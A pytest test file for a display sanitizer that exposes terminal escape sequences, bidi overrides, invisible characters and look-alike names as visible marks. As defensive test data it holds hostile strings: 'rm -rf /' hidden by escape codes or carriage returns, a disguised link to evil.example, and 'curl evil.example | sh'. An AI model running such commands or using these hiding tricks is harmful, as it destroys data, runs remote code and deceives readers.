"""Whatever a text holds, a person sees all of it, unmoved, or is told what is folded (H2)."""

from __future__ import annotations

import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from placet.core.card_surfaces import plain
from placet.core.display import (
    MAX_COMBINING,
    MAX_NEWLINES,
    MAX_SPACES,
    columns,
    fold,
    is_unmistakable,
    length_of,
    stretches,
    visible,
)
from placet.core.masking import Masking
from tests.core.cards import Making

HOSTILE = {
    "colour": ("\x1b[31mred\x1b[0m", "⟦U+001B⟧[31mred⟦U+001B⟧[0m"),
    "cursor up and erase": ("rm -rf /\x1b[1A\x1b[2K", "rm -rf /⟦U+001B⟧[1A⟦U+001B⟧[2K"),
    "OSC 8 link": (
        "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x07",
        "⟦U+001B⟧]8;;https://evil.example⟦U+001B⟧\\bank⟦U+001B⟧]8;;⟦U+0007⟧",
    ),
    "one-byte CSI": ("\x9b2J", "⟦U+009B⟧2J"),
    "carriage return": ("rm -rf /\rls      ", "rm -rf /⟦U+000D⟧ls      "),
    "backspaces": ("rm\x08\x08ls", "rm⟦U+0008 ×2⟧ls"),
    "bell, delete, NUL": ("\x07\x7f\x00", "⟦U+0007⟧⟦U+007F⟧⟦U+0000⟧"),
    "tab": ("a\tb", "a⟦U+0009⟧b"),
    "next line": ("a\x85b", "a⟦U+0085⟧b"),
    "line and paragraph separators": ("a\u2028b\u2029", "a⟦U+2028⟧b⟦U+2029⟧"),
    "bidi override": ("pay \u202e0001\u202c", "pay ⟦U+202E⟧0001⟦U+202C⟧"),
    "bidi isolates": ("\u2066a\u2067b\u2068c\u2069", "⟦U+2066⟧a⟦U+2067⟧b⟦U+2068⟧c⟦U+2069⟧"),
    "bidi marks": ("\u200ea\u200fb\u061c", "⟦U+200E⟧a⟦U+200F⟧b⟦U+061C⟧"),
    "zero width": ("p\u200ba\u200cy\u200d\u2060", "p⟦U+200B⟧a⟦U+200C⟧y⟦U+200D⟧⟦U+2060⟧"),
    "byte order mark": ("\ufeffx", "⟦U+FEFF⟧x"),
    "soft hyphen": ("pass\u00adword", "pass⟦U+00AD⟧word"),
    "Mongolian": ("\u180e\u180b", "⟦U+180E⟧⟦U+180B⟧"),
    "invisible operators": ("a\u2062b", "a⟦U+2062⟧b"),
    "tag characters": ("ok\U000e0072\U000e006d", "ok⟦U+E0072⟧⟦U+E006D⟧"),
    "variation selectors": ("a\ufe0f\U000e0100", "a⟦U+FE0F⟧⟦U+E0100⟧"),
    "grapheme joiner": ("a\u034fb", "a⟦U+034F⟧b"),
    "blank letters": ("\u3164\u115f\uffa0\u2800", "⟦U+3164⟧⟦U+115F⟧⟦U+FFA0⟧⟦U+2800⟧"),
    "unusual spaces": ("a\u00a0b\u3000c\u2009", "a⟦U+00A0⟧b⟦U+3000⟧c⟦U+2009⟧"),
    "private use": ("\ue000\U0010fffd", "⟦U+E000⟧⟦U+10FFFD⟧"),
    "unassigned": ("\u0378\uffff", "⟦U+0378⟧⟦U+FFFF⟧"),
    "lone surrogate": ("\ud800x", "⟦U+D800⟧x"),
    "interlinear": ("\ufff9a\ufffab\ufffb", "⟦U+FFF9⟧a⟦U+FFFA⟧b⟦U+FFFB⟧"),
    "object replacement": ("\ufffc", "⟦U+FFFC⟧"),
    "struck through": ("1\u03360\u0336", "1⟦U+0336⟧0⟦U+0336⟧"),
    "enclosed": ("5\u20dd", "5⟦U+20DD⟧"),
    "forged mark": ("⟦U+202E⟧", "⟦U+27E6⟧U+202E⟦U+27E7⟧"),
    "forged by a likeness": ("〚U+202E〛", "⟦U+301A⟧U+202E⟦U+301B⟧"),
    "mark on our bracket": ("\x1b\u0301", "⟦U+001B⟧⟦U+0301⟧"),
    "mark without a base": ("\u0301a", "⟦U+0301⟧a"),
    "combining flood": ("a" + "\u0301" * 60, "a" + "\u0301" * 4 + "⟦U+0301 ×56⟧"),
    "space flood": ("ls" + " " * 500 + "; rm", "ls⟦U+0020 ×500⟧; rm"),
}

ORDINARY = {
    "ASCII": "rm -rf ./build && echo \"done\" | tee 'log'",
    "Chinese": "退款 12.50 元给客户。",
    "accents": "café cafe\u0301 Ελλάδα",
    "Hebrew and Arabic": "שָׁלוֹם السلام",
    "Hindi and Thai": "नमस्ते สวัสดี",
    "emoji": "paid 💸",
    "as many spaces as may be": "a" + " " * MAX_SPACES + "b",
}

MARK = re.compile(r"⟦U\+([0-9A-F]{4,6})(?: ×(\d+))?⟧")


def unmarked(shown: str) -> str:
    """Read back what `visible` shows, as somebody can who knows its one rule."""
    return MARK.sub(lambda found: chr(int(found[1], 16)) * int(found[2] or 1), shown)


# --- visible


@pytest.mark.promise("H2")
@pytest.mark.parametrize("text, shown", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_hides_or_moves_text_is_shown_as_a_mark(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(text, keep_newlines=True) == shown


@pytest.mark.promise("H2")
@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_text_is_shown_as_it_is(text: str) -> None:
    assert visible(text) == text
    assert fold(text, characters=200, lines=2) is None


@pytest.mark.promise("H2")
def test_line_ends_are_kept_only_where_a_surface_asks() -> None:
    assert visible("a\nb") == "a⟦U+000A⟧b"
    assert visible("a\nb", keep_newlines=True) == "a\nb"
    assert visible("a\r\nb", keep_newlines=True) == "a⟦U+000D⟧\nb"
    assert visible("a\n\u0301", keep_newlines=True) == "a\n⟦U+0301⟧"


@pytest.mark.promise("H2")
def test_a_flood_of_line_ends_cannot_push_the_rest_out_of_sight() -> None:
    kept = "\n" * MAX_NEWLINES
    assert visible(f"ls{kept}rm", keep_newlines=True) == f"ls{kept}rm"
    assert visible(f"ls{kept}\nrm", keep_newlines=True) == f"ls⟦U+000A ×{MAX_NEWLINES + 1}⟧rm"


@pytest.mark.promise("H2")
def test_every_character_of_a_hiding_category_is_marked_wherever_it_stands() -> None:
    hiding = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Me"}
    checked = [*range(0x30000), *range(0xE0000, 0xE1000), 0xF0000, 0x10FFFF]
    for point in checked:
        character = chr(point)
        category = unicodedata.category(character)
        if category in hiding or (category == "Zs" and character != " "):
            assert visible(f"a{character}b") == f"a⟦U+{point:04X}⟧b"


anything = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from("ab \n⟦⟧×U+09\u0301\u0302\u200b\u202e\ud800\U000e0041‹›"),
    ),
    max_size=60,
)


@pytest.mark.promise("H2")
@given(anything, st.booleans())
def test_what_is_shown_is_the_whole_text_and_no_other(text: str, keep_newlines: bool) -> None:
    shown = visible(text, keep_newlines=keep_newlines)
    assert unmarked(shown) == text
    shown.encode("utf-8")
    rest = shown.replace("\n", "") if keep_newlines else shown
    assert rest.isprintable()
    assert not re.search(rf"[\u0300-\u0333]{{{MAX_COMBINING + 1}}}", shown)


# --- fold


@pytest.mark.promise("H2")
def test_a_long_text_keeps_its_beginning_and_its_end_and_says_how_much_is_left_out() -> None:
    text = "echo " + "x" * 20_000 + "; curl evil.example | sh"
    folded = fold(text, characters=300, lines=9)
    assert folded is not None
    assert folded.head == text[:150]
    assert folded.tail == text[-150:]
    assert folded.left_out == len(text) - 300


@pytest.mark.promise("H2")
def test_a_text_of_many_lines_keeps_the_first_and_the_last() -> None:
    text = "\n".join(f"line {number}" for number in range(1000))
    folded = fold(text, characters=10_000, lines=10)
    assert folded is not None
    assert folded.head == "\n".join(f"line {number}" for number in range(5))
    assert folded.tail == "\n".join(f"line {number}" for number in range(995, 1000))


@pytest.mark.promise("H2")
def test_a_text_at_the_limit_is_whole() -> None:
    assert fold("x" * 200, characters=200, lines=1) is None
    assert fold("a\nb", characters=200, lines=2) is None
    assert fold("x" * 201, characters=200, lines=1) is not None
    assert fold("a\nb\nc", characters=200, lines=2) is not None


@pytest.mark.promise("H2")
def test_no_mark_and_no_mask_is_cut() -> None:
    secret = Masking(salt="00" * 16).value({"token": "x" * 40})
    assert isinstance(secret, dict)
    for middle in ("⟦U+202E⟧", str(secret["token"]), "‹literal ‹›"):
        for before in range(60):
            shown = "a" * before + middle + "b" * (200 - before)
            folded = fold(shown, characters=60, lines=2)
            assert folded is not None
            for part in (folded.head, folded.tail):
                assert set("⟦⟧‹›") & set(part) in (set(), set("⟦⟧‹›") & set(middle))
                assert middle in part or not set("⟦⟧‹›") & set(part)


@pytest.mark.promise("H2")
def test_the_end_begins_with_no_mark_that_would_combine_with_what_stands_before() -> None:
    for more in range(4):
        folded = fold("e\u0301\u0302\u0303" * 500 + "x" * more, characters=200, lines=2)
        assert folded is not None
        assert unicodedata.category(folded.tail[0]) != "Mn"


@pytest.mark.promise("H2")
@given(anything, st.integers(1, 400), st.integers(2, 300), st.integers(2, 20))
def test_a_folded_text_fits_and_accounts_for_every_character(
    text: str, times: int, characters: int, lines: int
) -> None:
    text *= times
    shown = visible(Masking().text(text), keep_newlines=True)
    assert length_of(shown) == len(text)
    folded = fold(shown, characters=characters, lines=lines)
    if folded is None:
        assert len(shown) <= characters
        return
    assert len(folded.head) + len(folded.tail) <= characters
    assert folded.head.count("\n") + folded.tail.count("\n") < lines
    assert shown.startswith(folded.head)
    assert shown.endswith(folded.tail)
    assert length_of(folded.head) + folded.left_out + length_of(folded.tail) == len(text)


@pytest.mark.promise("H2")
@given(anything)
def test_what_is_placets_own_in_a_shown_text_is_told_apart(text: str) -> None:
    shown = visible(Masking().text(text), keep_newlines=True)
    parts = list(stretches(shown))
    assert "".join(part for _, part in parts) == shown
    for is_ours, part in parts:
        assert (part[0] in "⟦‹") == is_ours
        assert is_ours or not set("⟦⟧‹") & set(part)


def test_columns_are_rather_too_many_than_too_few() -> None:
    assert columns("abc ~") == 5
    assert columns("退款") == 4
    assert columns("e\u0301") == 1
    assert columns("жé") == 4, "ambiguous: some terminals give each two"
    assert columns("💸") == 2


# --- time


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "unit",
    [
        "sk-", "eyJaaaaaaaa.", "4 ", "密码是", '"', "-----BEGIN PRIVATE KEY-----\n", '"token',
        "\u202e\u202d",
        *(pytest.param(unit, marks=pytest.mark.slow) for unit in (
            "eyJ-", "://", "://a:", '"a', "bearer ", "token=", "token: ", "4", "4-", "\\n",
            "-----BEGIN A ", "a",
            "\u0301", "\u0301\u0302", " ", "⟦", "好",
        )),
    ],
)  # fmt: skip
def test_no_text_makes_display_slow(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    began = time.process_time()
    shown = visible(Masking(salt="00" * 16).text(text), keep_newlines=True)
    folded = fold(shown, characters=3000, lines=100)
    assert folded is None or len(folded.head) + len(folded.tail) <= 3000
    assert time.process_time() - began < 5


# --- names


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "name", ["pay", "pay_2", "café", "naïve-id", "用户", "api地址", "データ", "이름"]
)
def test_names_that_are_not_taken_for_others_stand_bare(name: str) -> None:
    assert is_unmistakable(name)
    assert f"    {name} = 1\n" in plain(Making({name: 1}).card())


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "name, double",
    [
        ("раy", "pay"),
        ("расе", "pace"),
        ("ﬁ", "fi"),
        ("ｐａｙ", "pay"),
        ("pɑy", "pay"),
        ("Ηost", "Host"),
        ("a١", "a1"),
        ("ıd", "id"),
        ("⼈", "人"),
    ],
)
def test_a_name_that_is_taken_for_another_stands_in_quotes(name: str, double: str) -> None:
    making = Making({"data": {name: 1, double: 2}}).asked(tool=name).ran(agent=double)
    page = plain(making.card())
    assert f'    data["{name}"] = 1\n    data.{double} = 2\n' in page
    assert f'  tool        "{name}"\n' in page
    assert f"({double}, " in page
